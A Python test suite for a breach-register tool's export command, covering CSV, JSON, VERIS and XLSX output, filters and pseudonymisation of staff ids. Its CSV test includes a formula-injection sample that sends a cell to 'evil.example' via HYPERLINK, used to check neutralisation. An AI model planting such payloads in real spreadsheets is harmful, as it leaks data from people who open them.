#!/usr/bin/env python3
"""Black-box tests of `breachreg export` (SPEC 5, 7): CSV (RFC 4180, header
first, formula injection neutralised), JSON (marking, one object per
incident), VERIS (every object valid against the VERIS 1.4 schema), XLSX
(three sheets), filters, pseudonymisation (no staff id left, stable
pseudonyms) and usage errors.

Usage: python3 tests/cli/test_export.py BINARY [SHARED_DIR] [-k NAME]...
SHARED_DIR holds veris/verisc-merged.json; default $BREACHREG_SHARED, else
the shared folder beside the repository (as tests/run-all.sh finds it).
Needs python3-jsonschema for the VERIS check.
Ends with one line 'N passed, N failed'; exits 1 if anything failed."""
import csv
import io
import json
import os
import re
import sys
import zipfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from helpers import check, eq, run_all, test  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
SHARED = os.environ.get("BREACHREG_SHARED") or os.path.join(HERE, "..", "..", "..", "shared")
MARKING = "OFFICIAL-SENSITIVE HR / MANAGEMENT"
PERSONAL = MARKING + " / PERSONAL DATA"
SHEETS = ("incidents", "decisions", "trends")


def demo(reg):
    reg.ok("init", "--demo")
    return reg.ok_json("incidents")


def export(reg, *args):
    """stdout of a successful export (which must print nothing on stderr)."""
    r = reg.ok("export", *args)
    eq(r.err, "", f"stderr of export {' '.join(args)}")
    return r.out


def export_file(reg, fmt, *args):
    """An export written with --out, read as it is (stdout is read as text,
    which turns CRLF into LF)."""
    path = reg.path(f"export.{fmt}")
    r = reg.ok("export", fmt, "--out", path, *args)
    eq(r.out, "", "nothing on stdout with --out")
    with open(path, newline="", encoding="utf-8") as f:
        return f.read()


def read_csv(text):
    # newline="" keeps CR and LF inside quoted fields as they are.
    return list(csv.reader(io.StringIO(text, newline="")))


def own_incident(reg, incidents, **kw):
    """Reports an incident in the demo's first organisation, naming the
    subjects of a demo incident there; returns its reference."""
    first = reg.ok_json("show", incidents[0]["ref"])
    doc = {"org": first["org"], "types": ["official-docs-unsecured"],
           "reporter": first.get("reporter") or first["subjects"][0],
           "classification": "official", "discovered_at": "2030-03-01T09:00:00Z",
           "description": "x", "subjects": first["subjects"]}
    doc.update(kw)
    return reg.out("report", "-", stdin=json.dumps(doc))


@test
def test_csv_rows_match_incidents(reg):
    incidents = demo(reg)
    check(len(incidents) > 50, f"the demo has a year of incidents ({len(incidents)})")
    text = export_file(reg, "csv")
    check(text.endswith("\r\n") and text.count("\r\n") == len(incidents) + 1,
          "CSV records end in CRLF")
    eq(read_csv(export(reg, "csv")), read_csv(text.replace("\r\n", "\n")),
       "stdout has the same export")
    rows = read_csv(text)
    header = rows[0]
    for col in ("ref", "kind", "org", "status", "severity", "types", "controls", "records",
                "occurred_at", "reported_at", "subjects", "outcomes", "notices", "description",
                "marking"):
        check(col in header, f"the header names {col!r}: {header}")
    eq(len(rows) - 1, len(incidents), "one row per incident")
    check(all(len(r) == len(header) for r in rows), "every row is as wide as the header")
    eq(sorted(r[header.index("ref")] for r in rows[1:]), sorted(i["ref"] for i in incidents),
       "the rows are the incidents")
    ts = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$")
    for r in rows[1:]:
        rec = dict(zip(header, r))
        check(ts.match(rec["occurred_at"]) and ts.match(rec["reported_at"]),
              f"times are RFC 3339 UTC: {rec['occurred_at']!r}")
        check(rec["marking"] in (MARKING, PERSONAL), f"marking {rec['marking']!r}")
        eq(rec["marking"] == PERSONAL, rec["personal_data"] == "true",
           f"{rec['ref']}: PERSONAL DATA marks exactly the incidents with personal data")


@test
def test_csv_quoting_and_formula_injection(reg):
    incidents = demo(reg)
    tricky = 'Ledger "A, B" left out,\r\nfound next day; "quoted" again\nand a third line'
    ref = own_incident(reg, incidents, description=tricky)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    ref2 = own_incident(reg, incidents, description=formula, location="+44 20 7946 0000")
    ref3 = own_incident(reg, incidents, description="@SUM(A1:A9)", location="-1+1")
    text = export_file(reg, "csv")
    rows = read_csv(text)
    header = rows[0]
    by_ref = {r[header.index("ref")]: dict(zip(header, r)) for r in rows[1:]}
    eq(by_ref[ref]["description"], tricky, "commas, quotes and line breaks survive the round trip")
    check('"Ledger ""A, B"" left out,\r\n' in text, "quotes are doubled inside a quoted field")
    eq(by_ref[ref2]["description"], "'" + formula, "a formula gets a leading apostrophe")
    eq(by_ref[ref2]["location"], "'+44 20 7946 0000", "so does a field starting with +")
    eq(by_ref[ref3]["description"], "'@SUM(A1:A9)", "and with @")
    eq(by_ref[ref3]["location"], "'-1+1", "and with -")
    check(not any(v[:1] in ("=", "+", "-", "@") for r in rows[1:] for v in r),
          "no cell starts a formula")
    # JSON keeps the text as it was reported.
    doc = json.loads(export(reg, "json"))
    got = {i["ref"]: i for i in doc["incidents"]}
    eq(got[ref2]["description"], formula, "JSON is not neutralised")
    eq(got[ref]["description"], tricky, "JSON keeps line breaks")


@test
def test_json_document(reg):
    incidents = demo(reg)
    doc = json.loads(export(reg, "json"))
    eq(sorted(doc), ["incidents", "marking"], "the document's members")
    eq(doc["marking"], PERSONAL, "the document carries the highest marking")
    eq(len(doc["incidents"]), len(incidents), "one object per incident")
    listed = {i["ref"]: i for i in incidents}
    for i in doc["incidents"]:
        for k in ("ref", "kind", "org", "status", "severity", "types", "subjects", "description",
                  "controls", "subjects_detail", "ico_notified", "marking"):
            check(k in i, f"{i['ref']} has {k!r}")
        eq(i["marking"], PERSONAL if i["personal_data"]["records"] > 0
           or i["personal_data"]["special_category"] else MARKING, f"{i['ref']} marking")
        eq(len(i["controls"]), len(i["types"]), f"{i['ref']}: a control area per type")
        eq([s["staff_id"] for s in i["subjects_detail"]], i["subjects"],
           f"{i['ref']}: subjects_detail follows subjects")
        eq((i["status"], i["org"]), (listed[i["ref"]]["status"], listed[i["ref"]]["org"]),
           f"{i['ref']} is as `incidents` lists it")
    decided = [s for i in doc["incidents"] for s in i["subjects_detail"] if s["outcome"]]
    check(decided, "the demo has decisions")
    check(any(s["notice"] for s in decided), "and breach notices")
    check(all(re.match(r"^BN-\d{4}-\d{6}$", s["notice"]) for s in decided if s["notice"]),
          "notice numbers are BN-YYYY-NNNNNN")


@test
def test_veris_valid_against_schema(reg):
    import jsonschema
    incidents = demo(reg)
    # Every baseline breach type, with each intent, so that every row of
    # the mapping meets the schema.
    types = [t["code"] for t in reg.ok_json("catalogue")["types"]]
    intents = ("accidental", "negligent", "reckless", "deliberate")
    for n, t in enumerate(types):
        own_incident(reg, incidents, types=[t], intent=intents[n % 4],
                     kind="near-miss" if n % 5 == 0 else "breach",
                     personal_data={"records": n * 7, "special_category": n % 3 == 0},
                     classification=("none", "official", "official-sensitive", "secret")[n % 4],
                     third_party_disclosure=n % 2 == 0, description=f"type {t}")
    with open(os.path.join(SHARED, "veris", "verisc-merged.json")) as f:
        schema = json.load(f)
    validator = jsonschema.Draft4Validator(schema)
    out = reg.path("veris.json")
    r = reg.ok("export", "veris", "--out", out)
    eq(r.out, "", "nothing on stdout with --out")
    total = len(incidents) + len(types)
    check(re.search(rf"exported {total} incidents", r.err), f"a summary on stderr: {r.err!r}")
    with open(out) as f:
        arr = json.load(f)
    check(isinstance(arr, list), "VERIS output is a JSON array")
    eq(len(arr), total, "one VERIS object per incident")
    errors = []
    for o in arr:
        for e in validator.iter_errors(o):
            errors.append(f"{o.get('incident_id')}: {'/'.join(map(str, e.path))}: {e.message}")
    check(not errors, f"{len(errors)} schema errors:\n" + "\n".join(errors[:10]))
    doc = json.loads(export(reg, "json"))
    kinds = {i["ref"]: i["kind"] for i in doc["incidents"]}
    for o in arr:
        eq(o["reference"], o["incident_id"], "reference is the SB ref")
        want = "Near miss" if kinds[o["incident_id"]] == "near-miss" else "Confirmed"
        eq(o["security_incident"], want, f"{o['incident_id']} security_incident")
        check(o["plus"]["breachreg"]["marking"] in (MARKING, PERSONAL), "the marking is in plus")
    check(any(o["security_incident"] == "Near miss" for o in arr), "near misses are exported")


@test
def test_xlsx_workbook(reg):
    incidents = demo(reg)
    out = reg.path("register.xlsx")
    r = reg.ok("export", "xlsx", "--out", out)
    eq(r.out, "", "nothing on stdout")
    check(re.search(rf"exported {len(incidents)} incidents", r.err), f"stderr: {r.err!r}")
    with open(out, "rb") as f:
        eq(f.read(2), b"PK", "an XLSX file is a zip")
    check(oct(os.stat(out).st_mode & 0o777) == oct(0o600), "the export is readable by its owner only")
    with zipfile.ZipFile(out) as z:
        wb = z.read("xl/workbook.xml").decode()
        names = re.findall(r'<sheet [^>]*name="([^"]+)"', wb)
        eq(tuple(names), SHEETS, "the three sheets")
        sheet1 = z.read("xl/worksheets/sheet1.xml").decode()
        for n in (1, 2, 3):
            x = z.read(f"xl/worksheets/sheet{n}.xml").decode()
            rows = re.findall(r"<row [^>]*>(.*?)</row>", x, re.S)
            check(PERSONAL in rows[0] and PERSONAL in rows[-1],
                  f"sheet {SHEETS[n - 1]} is marked at top and bottom")
    # marking, header, one row per incident, marking.
    eq(len(re.findall(r"<row ", sheet1)), len(incidents) + 3, "the incidents sheet's rows")
    check(all(i["ref"] in sheet1 for i in incidents), "every incident is on the sheet")
    reg.refuses(2, "export", "xlsx", field="out")


@test
def test_pseudonymise(reg):
    demo(reg)
    ident = json.loads(export(reg, "json"))
    staff = set()
    for i in ident["incidents"]:
        staff.update(i["subjects"])
        if i["reporter"]:
            staff.add(i["reporter"])
    staff.update(r[0] for r in reg.sql("SELECT staff_id FROM people"))
    check(len(staff) > 20, f"the demo names people ({len(staff)})")
    outs = {fmt: export(reg, fmt, "--pseudonymise") for fmt in ("csv", "json", "veris")}
    xlsx = reg.path("p.xlsx")
    reg.ok("export", "xlsx", "--pseudonymise", "--out", xlsx)
    with zipfile.ZipFile(xlsx) as z:
        outs["xlsx"] = "".join(z.read(n).decode("utf-8", "replace") for n in z.namelist())
    pat = re.compile(r"(?<![A-Za-z0-9._-])(" + "|".join(map(re.escape, sorted(staff))) +
                     r")(?![A-Za-z0-9._-])")
    for fmt, text in outs.items():
        m = pat.search(text)
        check(m is None, f"pseudonymised {fmt} names {m.group(1) if m else ''}")
    # The same person has the same pseudonym in each export, and only they.
    pseud = json.loads(outs["json"])
    again = json.loads(export(reg, "json", "--pseudonymise"))
    eq(again, pseud, "a second pseudonymised export is the same")
    mapping, back = {}, {}
    for a, b in zip(ident["incidents"], pseud["incidents"]):
        eq(a["ref"], b["ref"], "the same order")
        eq(b["description"], "", f"{b['ref']}: free text is withheld")
        eq(b["location"], None, f"{b['ref']}: the location is withheld")
        for s, p in zip(a["subjects"], b["subjects"]):
            check(re.fullmatch(r"P-[0-9a-f]{12}", p), f"pseudonym {p!r}")
            eq(mapping.setdefault(s, p), p, f"{s} always has one pseudonym")
            eq(back.setdefault(p, s), s, f"{p} stands for one person")
    repeat = [s for s in mapping
              if sum(s in i["subjects"] for i in ident["incidents"]) >= 2]
    check(repeat, "some demo people are subjects of several incidents: pseudonyms link them")
    rows = read_csv(outs["csv"])
    header = rows[0]
    csv_subjects = {r[0]: r[header.index("subjects")] for r in rows[1:]}
    for b in pseud["incidents"]:
        eq(csv_subjects[b["ref"]], ";".join(b["subjects"]), f"{b['ref']}: CSV and JSON agree")
    veris = json.loads(outs["veris"])
    check(all(o["summary"] == "Pseudonymised record: the description is withheld."
              for o in veris), "pseudonymised VERIS summaries are the fixed text")
    log = reg.ok_json("audit", "log")
    check(sum(1 for x in log if x["action"] == "export") >= 5, "each export is audited")


@test
def test_filters(reg):
    demo(reg)
    for args in (("--org", "hq"), ("--from", "2029-06-01", "--to", "2029-08-31"),
                 ("--org", "hmpps", "--from", "2029-09-01")):
        listed = sorted(i["ref"] for i in reg.ok_json("incidents", *args))
        doc = json.loads(export(reg, "json", *args))
        eq(sorted(i["ref"] for i in doc["incidents"]), listed, f"export {' '.join(args)}")
        check(listed, f"the filter {' '.join(args)} selects something")
        rows = read_csv(export(reg, "csv", *args))
        eq(len(rows) - 1, len(listed), f"CSV rows with {' '.join(args)}")
    empty = export(reg, "json", "--from", "2035-01-01")
    eq(json.loads(empty)["incidents"], [], "an empty export is still a document")
    eq(read_csv(export(reg, "csv", "--from", "2035-01-01"))[0][0], "ref",
       "an empty CSV still has its header")


@test
def test_usage_errors(reg):
    reg.ok("init")
    before = reg.dump()
    reg.refuses(2, "export", "pdf", field="format")
    reg.refuses(2, "export", field="format")
    reg.refuses(2, "export", "xlsx", field="out")
    reg.refuses(2, "export", "csv", "--from", "yesterday", field="from")
    reg.refuses(2, "export", "csv", "--to", "2030-13-01", field="to")
    reg.refuses(2, "export", "csv", "--org", "Not A Code", field="org")
    reg.refuses(2, "export", "csv", "--out")
    reg.refuses(2, "export", "csv", "json")
    reg.refuses(2, "export", "csv", "--bogus")
    eq(reg.dump(), before, "a refused export changes nothing")
    out = os.path.join(reg.dir, "no-such-dir", "x.csv")
    r = reg.run("export", "csv", "--out", out)
    check(r.code != 0 and names_out(r.err), f"an unwritable --out fails naming it\n{r.describe()}")
    # A failed export leaves no file behind; a good one replaces the old.
    path = reg.path("x.csv")
    with open(path, "w") as f:
        f.write("old")
    reg.ok("export", "csv", "--out", path)
    with open(path, newline="") as f:
        eq(read_csv(f.read())[0][0], "ref", "--out replaced the old file")
    check(not [n for n in os.listdir(reg.dir) if ".tmp-" in n], "no temporary file is left")


def names_out(err):
    return re.search(r"(?<![\w-])out(?![\w-])", err) is not None


def main(argv):
    global SHARED
    args = [a for a in argv if a != "-k"]
    only = [argv[i + 1] for i in range(len(argv) - 1) if argv[i] == "-k"]
    args = [a for a in args if a not in only]
    if not args:
        print(__doc__)
        return 2
    if len(args) > 1:
        SHARED = args[1]
    if not os.path.exists(os.path.join(SHARED, "veris", "verisc-merged.json")):
        print(f"no VERIS schema under {SHARED}", file=sys.stderr)
        return 2
    return run_all(os.path.abspath(args[0]), jobs=2, only=only)


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
